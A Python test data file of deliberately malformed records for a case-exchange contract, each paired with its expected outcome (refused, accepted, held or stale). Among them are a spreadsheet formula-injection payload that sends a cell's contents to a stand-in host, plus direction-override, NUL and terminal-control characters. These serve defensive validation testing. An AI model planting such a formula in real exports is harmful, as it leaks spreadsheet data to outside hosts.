"""Dirty records and what becomes of each: over ``Push`` and ``PushOne``, and through ``CountyClient``."""

from typing import Any

from exchange_db.records import Action, Case, CheckState, Crs, ReportState
from tests.contract.dirty.dirt import DirtyRecord, with_new_field, with_value, without_record, written_ahead
from tests.contract.dirty.outcomes import Accepted, Held, Refused, Stale
from tests.support.builders import (
    CITY,
    COUNTY,
    OTHER_COUNTY,
    a_handling,
    a_payload,
    a_report,
    a_verdict,
    an_action,
    an_assignment,
)
from tests.support.clock import NOON

FAR_TIME = 7_258_000_000_000_000  # the year 2199
BIDI = "已结\u202e案\u2066"
EMOJI = "垃圾🗑️，👨‍👩‍👧 家庭"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点此")'


def _actions(**changes: Any) -> dict[str, tuple[Action, ...]]:
    return {"actions": (an_action(**changes),)}


_REPORT = "case.report"
_CODE = f"{_REPORT}.class_code.code"
_PLACE = f"{_REPORT}.position"

RECORDS = (
    # Codes and numbers.
    DirtyRecord(
        "wide-class", "full-width digits in a class", Refused("FIELD_INVALID", _CODE), {"class_code": "０２０３"}
    ),
    DirtyRecord("blank-class", "a blank behind a class", Refused("FIELD_INVALID", _CODE), {"class_code": "0203 "}),
    DirtyRecord(
        "wide-source",
        "a full-width source",
        Refused("FIELD_INVALID", f"{_REPORT}.source_code"),
        {"source_code": "ａｐｐ"},
    ),
    DirtyRecord(
        "wide-unit",
        "a full-width unit",
        Refused("FIELD_INVALID", "case.assignment.unit_code"),
        {"authority_id": COUNTY},
        {"assignment": an_assignment(unit_code="ｈｗ０１")},
    ),
    DirtyRecord(
        "wide-region",
        "full-width digits in a region",
        Refused("REGION_INVALID", f"{_REPORT}.region_code"),
        {"region_code": "４３１２２１"},
    ),
    DirtyRecord(
        "wide-number",
        "full-width digits in a case number",
        Accepted("a number is the platform's own and opaque; `２０２０` is another case than `2020`"),
        case_no="{}-２０２０",
    ),
    DirtyRecord(
        "cut-region",
        "a region that lost a digit",
        Refused("REGION_INVALID", f"{_REPORT}.region_code"),
        {"region_code": "43122"},
    ),
    DirtyRecord(
        "no-standard",
        "a class without its standard",
        Refused("STANDARD_REF_MISSING", f"{_REPORT}.class_code.standard_ref"),
        {"standard_ref": ""},
    ),
    # Places.
    DirtyRecord("swapped", "swapped coordinates", Refused("POSITION_OUT_OF_RANGE", _PLACE), {"x": 27.44, "y": 109.944}),
    DirtyRecord(
        "swapped-west",
        "swapped coordinates of 乌鲁木齐, both below 90",
        Refused("POSITION_OUT_OF_RANGE", _PLACE, "CGCS2000, GCJ-02 and BD-09 lie in China"),
        {"x": 43.8, "y": 87.6},
    ),
    DirtyRecord(
        "swapped-wgs84",
        "the same in WGS-84",
        Accepted("as written; WGS-84 is used everywhere, and both are places", {"report.x": 43.8}),
        {"crs": Crs.WGS84, "x": 43.8, "y": 87.6},
    ),
    DirtyRecord("zero-place", "coordinates 0, 0", Refused("POSITION_OUT_OF_RANGE", _PLACE), {"x": 0.0, "y": 0.0}),
    DirtyRecord(
        "nan-place", "coordinates that are no numbers", Refused("POSITION_OUT_OF_RANGE", _PLACE), {"x": float("nan")}
    ),
    DirtyRecord(
        "endless-place",
        "endless coordinates in the city's own frame",
        Refused("POSITION_OUT_OF_RANGE", _PLACE),
        {"crs": Crs.LOCAL, "x": float("inf")},
    ),
    DirtyRecord(
        "no-crs",
        "coordinates without a reference system",
        Refused("CRS_MISSING", f"{_PLACE}.crs"),
        damage=with_value("case.report.position.crs", 0),
    ),
    DirtyRecord(
        "new-crs",
        "a reference system of a newer contract",
        Refused("FIELD_INVALID", f"{_PLACE}.crs"),
        damage=with_value("case.report.position.crs", 9),
    ),
    DirtyRecord(
        "wrong-crs",
        "GCJ-02 coordinates that say they are CGCS2000",
        Accepted("as written; a few hundred metres off, which nobody can see from the numbers"),
        {"x": 109.949, "y": 27.437},
    ),
    DirtyRecord(
        "no-place",
        "neither coordinates nor address",
        Refused("PLACE_MISSING", _PLACE),
        {"crs": Crs.NONE, "address": ""},
    ),
    # Times.
    DirtyRecord(
        "year-1900",
        "a report of 1900",
        Refused("FIELD_INVALID", f"{_REPORT}.reported_time"),
        {"reported_time": -2_209_017_600_000_000},
    ),
    DirtyRecord(
        "milliseconds",
        "milliseconds for microseconds",
        Refused("FIELD_INVALID", f"{_REPORT}.reported_time", "it would be January 1970"),
        {"reported_time": NOON // 1_000},
    ),
    DirtyRecord(
        "no-time", "no time of the report", Refused("FIELD_MISSING", f"{_REPORT}.reported_time"), {"reported_time": 0}
    ),
    DirtyRecord(
        "future", "a report of 2199", Refused("CLOCK_SKEW", f"{_REPORT}.reported_time"), {"reported_time": FAR_TIME}
    ),
    DirtyRecord(
        "future-filing",
        "a filing in 2199",
        Refused("CLOCK_SKEW", f"{_REPORT}.filed_time", "so every moment that has been; deadlines may lie ahead"),
        {"filed_time": FAR_TIME},
    ),
    DirtyRecord(
        "future-action",
        "an action in 2199",
        Refused("CLOCK_SKEW", "case.actions.action_time"),
        {},
        _actions(action_time=FAR_TIME),
    ),
    DirtyRecord(
        "year-9999",
        "a time beyond 2200",
        Refused("FIELD_INVALID", f"{_REPORT}.found_time"),
        {"found_time": 253_402_300_799_000_000},
    ),
    DirtyRecord(
        "written-ahead", "a parcel written in an hour", Refused("CLOCK_SKEW", "created_time"), damage=written_ahead
    ),
    # Texts.
    DirtyRecord(
        "crlf",
        "CRLF, CR and tabs in a text",
        Accepted("as written", {"report.description": "一\r\n二\r三\t四"}),
        {"description": "一\r\n二\r三\t四"},
    ),
    DirtyRecord(
        "emoji",
        "emoji, also joined ones",
        Accepted("as written", {"report.description": EMOJI}),
        {"description": EMOJI},
    ),
    DirtyRecord(
        "bidi",
        "marks that turn the direction of writing, in a text",
        Accepted("as written; on a terminal each is shown as �", {"report.description": BIDI}),
        {"description": BIDI},
    ),
    DirtyRecord(
        "bidi-number", "the same in a case number", Refused("TEXT_INVALID", "case.key.case_no"), case_no="{}\u202e1"
    ),
    DirtyRecord("bidi-class", "the same in a class", Refused("TEXT_INVALID", _CODE), {"class_code": "02\u202e03"}),
    DirtyRecord(
        "hidden-source",
        "an invisible blank in a source",
        Refused("TEXT_INVALID", f"{_REPORT}.source_code"),
        {"source_code": "app\u200b"},
    ),
    DirtyRecord(
        "formula",
        "a formula as a text",
        Accepted("as written; made harmless where it is written into a CSV file", {"report.description": FORMULA}),
        {"description": FORMULA},
    ),
    DirtyRecord("nul", "a NUL in a text", Refused("TEXT_INVALID", f"{_REPORT}.description"), {"description": "垃\0圾"}),
    DirtyRecord("nul-number", "a NUL in a case number", Refused("TEXT_INVALID", "case.key.case_no"), case_no="{}\0"),
    DirtyRecord(
        "c1",
        "a C1 control, which some terminals obey",
        Refused("TEXT_INVALID", f"{_REPORT}.address"),
        {"address": "芙蓉路\x9b31m"},
    ),
    DirtyRecord(
        "long",
        "a text of 3 MB",
        Refused("FIELD_INVALID", f"{_REPORT}.description", "one of 10 MB does not fit into a message (4 MiB)"),
        {"description": "长" * 1_000_000},
    ),
    DirtyRecord(
        "gbk",
        "GBK bytes for UTF-8",
        Refused("UNREADABLE", ""),
        raw=a_payload(Case(COUNTY, "GBK", report=a_report(description="gb"))).replace(b"gb", "圾".encode("gbk")),
    ),
    DirtyRecord("noise", "bytes that are no message", Refused("UNREADABLE", ""), raw=b"\xff\xfe\x00" * 9),
    DirtyRecord("empty", "no bytes", Refused("FIELD_MISSING", "message_id"), raw=b""),
    # A newer contract.
    DirtyRecord(
        "new-state",
        "a state of a newer contract",
        Refused("FIELD_INVALID", f"{_REPORT}.state"),
        damage=with_value("case.report.state", 9),
    ),
    DirtyRecord(
        "new-kind",
        "a kind of class of a newer contract",
        Refused("FIELD_INVALID", f"{_REPORT}.class_code.kind"),
        damage=with_value("case.report.class_code.kind", 7),
    ),
    DirtyRecord(
        "new-limit",
        "a unit of limits of a newer contract",
        Refused("FIELD_INVALID", "case.assignment.limit_unit"),
        {"authority_id": COUNTY},
        {"assignment": an_assignment(limit_unit=6)},
    ),
    DirtyRecord(
        "new-closing",
        "a kind of closing of a newer contract",
        Refused("FIELD_INVALID", "case.verdict.closing_kind"),
        {"authority_id": COUNTY},
        {"verdict": a_verdict(closing_kind=5)},
    ),
    DirtyRecord(
        "new-field",
        "a field of a newer contract",
        Accepted("without it; the bytes are kept and passed on whole"),
        damage=with_new_field(90, of_report=True),
    ),
    DirtyRecord(
        "new-record",
        "a kind of record of a newer contract",
        Refused("RECORD_KIND_UNSUPPORTED", "record"),
        damage=with_new_field(90, of_report=False),
    ),
    DirtyRecord("no-record", "no record at all", Refused("RECORD_MISSING", ""), damage=without_record),
    # Owners, rights, revisions.
    DirtyRecord(
        "stolen-name",
        "another platform's name",
        Refused("ORIGIN_FORBIDDEN", "origin_id"),
        damage=with_value("origin_id", OTHER_COUNTY),
    ),
    DirtyRecord(
        "elsewhere",
        "a region outside the link's rights",
        Refused("REGION_FORBIDDEN", f"{_REPORT}.region_code"),
        {"region_code": "430104"},
    ),
    DirtyRecord(
        "wrong-reporter",
        "a report under another platform's number",
        Held("SECTION_FORBIDDEN", "case.report"),
        issuer_id=OTHER_COUNTY,
    ),
    DirtyRecord(
        "wrong-authority",
        "an assignment by who is not the authority",
        Held("SECTION_FORBIDDEN", "case.assignment"),
        {"authority_id": CITY},
        {"assignment": an_assignment()},
    ),
    DirtyRecord(
        "wrong-handler",
        "work by who does not handle the case",
        Held("SECTION_FORBIDDEN", "case.handling"),
        {},
        {"handling": a_handling()},
    ),
    DirtyRecord(
        "wrong-judge",
        "a verdict by who is not the authority",
        Held("SECTION_FORBIDDEN", "case.verdict"),
        {},
        {"verdict": a_verdict(state=CheckState.CHECKING)},
    ),
    DirtyRecord(
        "wrong-actor",
        "an action in another's name",
        Held("SECTION_FORBIDDEN", "case.actions.platform_id"),
        {},
        _actions(platform_id=OTHER_COUNTY),
    ),
    DirtyRecord(
        "unknown-case",
        "work on a case nobody reported",
        Held("CASE_UNKNOWN", "case.key.case_no"),
        None,
        {"handling": a_handling()},
    ),
    DirtyRecord(
        "step-back",
        "a filed case that is only reported again",
        Held("TRANSITION_FORBIDDEN", f"{_REPORT}.state"),
        {"revision": 2},
        before=({"state": ReportState.FILED},),
    ),
    DirtyRecord(
        "revision-back",
        "a lower revision",
        Stale("the higher one holds"),
        {"revision": 2, "description": "旧"},
        before=({"revision": 3},),
    ),
    DirtyRecord(
        "revision-same",
        "the same revision with other content",
        Stale("the first one holds"),
        {"description": "改"},
        before=({},),
    ),
    DirtyRecord("revision-zero", "no revision", Refused("FIELD_MISSING", f"{_REPORT}.revision"), {"revision": 0}),
    DirtyRecord(
        "revision-minus", "a revision below zero", Refused("FIELD_INVALID", f"{_REPORT}.revision"), {"revision": -1}
    ),
)
